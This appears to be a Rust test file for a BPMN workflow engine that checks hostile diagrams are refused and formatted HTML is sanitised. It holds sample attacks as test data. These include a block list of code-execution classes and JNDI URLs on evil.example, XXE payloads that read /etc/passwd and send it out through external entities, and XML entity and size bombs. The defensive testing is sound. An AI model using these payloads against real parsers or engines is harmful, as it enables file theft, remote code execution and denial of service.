//! What attackers write (`docs/handbook/quality.md`, SEC-02, 05, 06, 09, 28): what would run, read or grow in a diagram is refused before
//! it is deployed, wherever it stands; of formatted text nothing is left that runs.

use std::collections::{BTreeMap, BTreeSet};

use lawdesk_core::bpmn::{self, FindingSeverity, ReadErrorKind};
use lawdesk_core::effect::Effect;
use lawdesk_core::engine::Environment;
use lawdesk_core::expression::{NameCatalogue, Type, VariableDeclaration};
use lawdesk_core::html;
use lawdesk_core::lint::{LintContext, check_file};

/// Expressions that break out elsewhere, one a line.
const EXPRESSIONS: &str = include_str!("../src/expression/tests/attacks.txt");

/// Classes, delegates, beans and jobs that others have run: what is no registered handler is none.
const HANDLERS: [&str; 14] = [
    "java.lang.Runtime",
    "java.lang.ProcessBuilder",
    "javax.script.ScriptEngineManager",
    "org.springframework.jdbc.core.JdbcTemplate",
    "com.ruoyi.quartz.task.RyTask",
    "org.flowable.engine.impl.bpmn.behavior.ShellActivityBehavior",
    "ryTask.ryParams('ry')",
    "http://evil.example/a.jar",
    "rmi://evil.example/a",
    "ldap://evil.example/a",
    "/bin/sh",
    "../effects",
    "shell",
    "APPLY_FIRM ",
];

/// Where an expression can stand: the name of the place, and the part of the diagram with `PAYLOAD`.
const PLACES: [(&str, Part, &str); 19] = [
    ("condition", Part::Flow, "<conditionExpression>PAYLOAD</conditionExpression>"),
    ("assignee", Part::TaskAttribute, "flowable:assignee=\"PAYLOAD\""),
    ("owner", Part::TaskAttribute, "flowable:assignee=\"1\" flowable:owner=\"PAYLOAD\""),
    ("candidate users", Part::TaskAttribute, "flowable:candidateUsers=\"1,PAYLOAD\""),
    ("candidate groups", Part::TaskAttribute, "flowable:candidateGroups=\"PAYLOAD\""),
    ("due date", Part::TaskAttribute, "flowable:assignee=\"1\" flowable:dueDate=\"PAYLOAD\""),
    ("priority", Part::TaskAttribute, "flowable:assignee=\"1\" flowable:priority=\"PAYLOAD\""),
    ("skip expression", Part::TaskAttribute, "flowable:assignee=\"1\" flowable:skipExpression=\"PAYLOAD\""),
    ("name", Part::OtherNode, "<manualTask id=\"x\" name=\"PAYLOAD\"/>"),
    (
        "timer",
        Part::OtherNode,
        "<intermediateCatchEvent id=\"x\"><timerEventDefinition><timeDuration>PAYLOAD</timeDuration></timerEventDefinition></intermediateCatchEvent>",
    ),
    (
        "day of a timer",
        Part::OtherNode,
        "<intermediateCatchEvent id=\"x\"><timerEventDefinition><timeDate>PAYLOAD</timeDate></timerEventDefinition></intermediateCatchEvent>",
    ),
    (
        "collection",
        Part::TaskContent,
        "<multiInstanceLoopCharacteristics flowable:collection=\"PAYLOAD\" flowable:elementVariable=\"person\"/>",
    ),
    (
        "cardinality",
        Part::TaskContent,
        "<multiInstanceLoopCharacteristics><loopCardinality>PAYLOAD</loopCardinality></multiInstanceLoopCharacteristics>",
    ),
    (
        "completion condition",
        Part::TaskContent,
        "<multiInstanceLoopCharacteristics><loopCardinality>2</loopCardinality><completionCondition>PAYLOAD</completionCondition></multiInstanceLoopCharacteristics>",
    ),
    ("task listener", Part::Extension, "<flowable:taskListener event=\"create\" expression=\"PAYLOAD\"/>"),
    ("listener", Part::Extension, "<flowable:executionListener event=\"start\" expression=\"PAYLOAD\"/>"),
    ("service", Part::OtherNode, "<serviceTask id=\"x\" flowable:expression=\"PAYLOAD\"/>"),
    (
        "field",
        Part::OtherNode,
        "<serviceTask id=\"x\" flowable:type=\"mail\"><extensionElements><flowable:field name=\"to\"><flowable:expression>PAYLOAD</flowable:expression></flowable:field></extensionElements></serviceTask>",
    ),
    (
        "mapping",
        Part::OtherNode,
        "<callActivity id=\"x\" calledElement=\"p\"><extensionElements><flowable:in sourceExpression=\"PAYLOAD\" target=\"a\"/></extensionElements></callActivity>",
    ),
];

/// Which part of the diagram a place belongs to.
#[derive(Clone, Copy, PartialEq)]
enum Part {
    Flow,
    TaskAttribute,
    TaskContent,
    Extension,
    OtherNode,
}

/// A diagram of one step and one other node, with this in one place.
fn diagram(part: Part, text: &str) -> String {
    let at = |wanted: Part| if part == wanted { text } else { "" };
    let people = if part == Part::TaskAttribute { text } else { "flowable:assignee=\"1\"" };
    let other = if part == Part::OtherNode { text } else { "<manualTask id=\"x\"/>" };
    format!(
        "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL' xmlns:flowable='http://flowable.org/bpmn' targetNamespace='t'>
         <process id='p' isExecutable='true'><startEvent id='s'/><exclusiveGateway id='g' default='g_e'/>
         <userTask id='t' name='Review' {people} flowable:formKey='leave'><extensionElements>{}<flowable:button name='同意' code='05' sort='1'/></extensionElements>{}</userTask>
         {other}<endEvent id='e'/>
         <sequenceFlow id='s_g' sourceRef='s' targetRef='g'/><sequenceFlow id='g_t' sourceRef='g' targetRef='t'>{}</sequenceFlow>
         <sequenceFlow id='g_e' sourceRef='g' targetRef='e'/><sequenceFlow id='t_x' sourceRef='t' targetRef='x'/>
         <sequenceFlow id='x_e' sourceRef='x' targetRef='e'/></process></definitions>",
        at(Part::Extension),
        at(Part::TaskContent),
        at(Part::Flow),
    )
}

/// What a server knows around a diagram; the variables are those that the attacks name.
fn context() -> LintContext {
    let kinds = [("a", Type::Long), ("s", Type::Text), ("l", Type::List), ("m", Type::Map), ("n", Type::Any)];
    let declared = |kind| VariableDeclaration { kind, ..VariableDeclaration::default() };
    LintContext {
        forms: Some(BTreeSet::from(["leave".to_owned()])),
        roles: Some(BTreeMap::new()),
        users: Some(BTreeSet::from(["1".to_owned()])),
        handlers: Some(Effect::ALL.iter().map(|it| it.code().to_owned()).collect()),
        processes: Some(BTreeSet::from(["p".to_owned()])),
        names: Some(NameCatalogue {
            beans: Environment::default().catalogue(),
            variables: kinds.map(|(name, kind)| (name.to_owned(), declared(kind))).into(),
            complete: true,
            in_task: false,
        }),
        ..LintContext::default()
    }
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

/// Codes of what keeps a diagram from being deployed, beside those that it has without what was put into it.
fn refusals(text: &str, usual: &BTreeSet<String>) -> BTreeSet<String> {
    let found = check_file(text.as_bytes(), &context()).into_iter();
    let errors =
        found.filter(|it| it.severity == FindingSeverity::Error).map(|it| format!("{} {}", it.code, it.element));
    errors.filter(|it| !usual.contains(it)).collect()
}

/// The attacks that are refused in a place.
fn refused_in((_, part, place): (&str, Part, &str)) -> BTreeSet<&'static str> {
    let usual = refusals(&diagram(part, &place.replace("PAYLOAD", "${a}")), &BTreeSet::new());
    let of_expression = |code: &String| ["expression-", "bean-", "handler-"].iter().any(|it| code.starts_with(it));
    let is_refused = |attack: &&str| {
        let found = refusals(&diagram(part, &place.replace("PAYLOAD", &escaped(attack))), &usual);
        found.iter().any(of_expression)
    };
    EXPRESSIONS.lines().filter(|line| !line.is_empty()).filter(is_refused).collect()
}

/// What is refused as the person of a task is refused wherever else an expression can stand; the few that only fail when they are
/// evaluated (`attacks_are_errors`) act on variables, as listeners may.
#[test]
fn an_expression_that_breaks_out_is_refused_wherever_it_stands() {
    let refused = refused_in(PLACES[1]);
    let all = EXPRESSIONS.lines().filter(|line| !line.is_empty()).count();
    assert!(refused.len() + 8 >= all, "{} of {all}", refused.len());
    for place in PLACES {
        let here = refused_in(place);
        let taken: Vec<_> = refused.difference(&here).collect();
        assert!(taken.is_empty(), "{}: {taken:#?}", place.0);
    }
}

#[test]
fn a_class_or_delegate_that_is_no_registered_handler_is_refused() {
    let places: [(Part, &str); 7] = [
        (Part::Extension, "<flowable:executionListener event=\"start\" class=\"PAYLOAD\"/>"),
        (Part::Extension, "<flowable:executionListener event=\"end\" delegateExpression=\"${PAYLOAD}\"/>"),
        (Part::Extension, "<flowable:taskListener event=\"create\" class=\"PAYLOAD\"/>"),
        (Part::Extension, "<flowable:taskListener event=\"complete\" delegateExpression=\"${PAYLOAD}\"/>"),
        (Part::OtherNode, "<serviceTask id=\"x\" flowable:class=\"PAYLOAD\"/>"),
        (Part::OtherNode, "<serviceTask id=\"x\" flowable:delegateExpression=\"${PAYLOAD}\"/>"),
        (Part::OtherNode, "<serviceTask id=\"x\" flowable:type=\"PAYLOAD\"/>"),
    ];
    let usual = refusals(&diagram(Part::Flow, ""), &BTreeSet::new());
    let known = Effect::ALL[0].code();
    let sound = refusals(&diagram(places[0].0, &places[0].1.replace("PAYLOAD", known)), &usual);
    assert!(!sound.iter().any(|it| it.starts_with("handler-")), "{known} is one: {sound:?}");
    for (part, place) in places {
        for name in HANDLERS {
            let found = refusals(&diagram(part, &place.replace("PAYLOAD", name)), &usual);
            assert!(!found.is_empty(), "{place} {name}");
        }
    }
}

fn refusal(bytes: &[u8]) -> ReadErrorKind {
    match bpmn::read(bytes) {
        Ok(_) => panic!("it was read: {}", String::from_utf8_lossy(&bytes[..bytes.len().min(200)])),
        Err(refused) => refused.kind,
    }
}

/// SEC-05: a document type is what entities and files are declared in, however it is written.
#[test]
fn no_document_type_is_read_in_any_form_or_encoding() {
    let types = [
        "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE d SYSTEM \"http://127.0.0.1:4711/evil.dtd\">",
        "<!DOCTYPE d PUBLIC \"-//x\" \"http://127.0.0.1:4711/evil.dtd\">",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://127.0.0.1:4711/p\"> %p;]>",
        "<!DOCTYPE d [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#37; x SYSTEM 'http://127.0.0.1:4711/?%f;'>\"> %e; %x;]>",
        "<!DOCTYPE d [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
        "<!DOCTYPE d [<!ELEMENT d ANY>]>",
        "<!DOCTYPE d>",
        "<!-- before --><!DOCTYPE d [<!ENTITY e SYSTEM 'expect://id'>]>",
        "<!DOCTYPE d [<!ATTLIST d a CDATA 'x'><!ENTITY e SYSTEM 'php://filter/x'>]>",
        "\n\n  <!DOCTYPE d [<!ENTITY e SYSTEM 'jar:http://127.0.0.1:4711/a.jar!/a'>]>",
        "<!DOCTYPE\td\n[<!NOTATION n SYSTEM 'x'>]>",
    ];
    for kind in types {
        let text = format!("<?xml version=\"1.0\"?>{kind}<d>&e;</d>");
        let wide: Vec<u16> = text.replace("1.0\"", "1.0\" encoding=\"UTF-16\"").encode_utf16().collect();
        let little: Vec<u8> = wide.iter().flat_map(|it| it.to_le_bytes()).collect();
        let big: Vec<u8> = wide.iter().flat_map(|it| it.to_be_bytes()).collect();
        let marked = [&b"\xef\xbb\xbf"[..], text.as_bytes()].concat();
        for bytes in
            [text.clone().into_bytes(), marked, [&b"\xff\xfe"[..], &little].concat(), [&b"\xfe\xff"[..], &big].concat()]
        {
            assert_eq!(refusal(&bytes), ReadErrorKind::DoctypeForbidden, "{kind}");
        }
    }
    // UTF-7 and other sets in which a document type would read otherwise are not known; XInclude is an element that means nothing.
    let hidden = "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE d><d/>";
    assert!(matches!(refusal(hidden.as_bytes()), ReadErrorKind::EncodingUnknown { .. }));
    let include = "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL' xmlns:xi='http://www.w3.org/2001/XInclude' targetNamespace='t'>
        <process id='p'><xi:include href='file:///etc/passwd' parse='text'/><startEvent id='s'/></process></definitions>";
    let read = bpmn::read(include.as_bytes()).unwrap();
    assert!(!format!("{:?}", read.model).contains("root:x:0"), "nothing is included");
    assert_eq!(refusal(b"<d>&e;</d>"), ReadErrorKind::EntityUnknown);
}

/// SEC-06: what would take time or memory without bound ends at its limit. Each takes thousands of times as long where it is not
/// refused on the way, or grows as the square: the test would not end.
#[test]
fn what_is_made_to_grow_ends_at_its_limit() {
    let many = |count: usize, piece: &dyn Fn(usize) -> String| (0..count).map(piece).collect::<String>();
    let names = many(80_000, &|at| format!(" a{at}=''"));
    let spaces = many(100_000, &|at| format!(" xmlns:n{at}='u'"));
    let bombs: [(String, ReadErrorKind); 8] = [
        (format!("<d>{}", "<a>".repeat(1_000_000)), ReadErrorKind::NestedTooDeep),
        (format!("<d>{}</d>", "<a/>".repeat(1_000_000)), ReadErrorKind::TooManyElements),
        (format!("<d{names}/>"), ReadErrorKind::TooManyAttributes),
        (format!("<d{spaces}/>"), ReadErrorKind::TooManyAttributes),
        (
            many(90, &|at| format!("<d xmlns:a{at}='u' xmlns:b{at}='u' xmlns:c{at}='u'>")),
            ReadErrorKind::TooManyNamespaces,
        ),
        (format!("<d a='{}'/>", "x".repeat(4_000_000)), ReadErrorKind::AttributeTooLong),
        (" ".repeat(20_000_000), ReadErrorKind::FileTooLarge),
        (format!("<!DOCTYPE d [{}]><d/>", "<!ENTITY a '&a;&a;'>".repeat(100_000)), ReadErrorKind::DoctypeForbidden),
    ];
    for (bomb, expected) in bombs {
        assert_eq!(refusal(bomb.as_bytes()), expected);
    }
}

/// Tags and attributes that formatted text may have, as the page draws them.
const TAGS: [&str; 28] = [
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "sup",
    "u",
    "ul",
];
const ATTRIBUTES: [&str; 6] = ["target", "rel", "href", "start", "data-file", "alt"];

/// The names of the attributes in a tag as `clean` writes them, and where its link leads.
fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag;
    let mut found = Vec::new();
    while let Some((name, behind)) = rest.split_once("=\"") {
        let (value, next) = behind.split_once('"').unwrap_or((behind, ""));
        found.push((name.trim(), value));
        rest = next;
    }
    assert!(rest.trim().is_empty(), "{tag}");
    found
}

/// SEC-09: whatever is written into formatted text, alone, between other text and doubled.
#[test]
fn nothing_that_runs_is_left_of_formatted_text() {
    let attacks: Vec<&str> = include_str!("html_attacks.txt").lines().collect();
    assert_eq!(attacks.len(), 120);
    for attack in attacks {
        for html in [
            attack.to_owned(),
            format!("<p>前{attack}后</p>"),
            format!("{attack}{attack}"),
            format!("<b title='{attack}'>x</b>"),
        ] {
            let cleaned = html::clean(&html);
            assert_eq!(html::clean(&cleaned), cleaned, "{html}");
            for tag in cleaned.split('<').skip(1) {
                let (tag, text) = tag.split_once('>').unwrap_or_else(|| panic!("{cleaned}"));
                let (name, rest) =
                    tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
                assert!(TAGS.contains(&name), "{html} gave {cleaned}");
                assert!(!text.contains('>'), "{html} gave {cleaned}");
                for (name, value) in attributes(rest) {
                    assert!(ATTRIBUTES.contains(&name), "{html} gave {cleaned}");
                    let leads = name != "href"
                        || ["http://", "https://", "mailto:", "tel:"].iter().any(|it| value.starts_with(it));
                    assert!(leads && !value.contains(['<', '>']), "{html} gave {cleaned}");
                }
            }
        }
    }
}
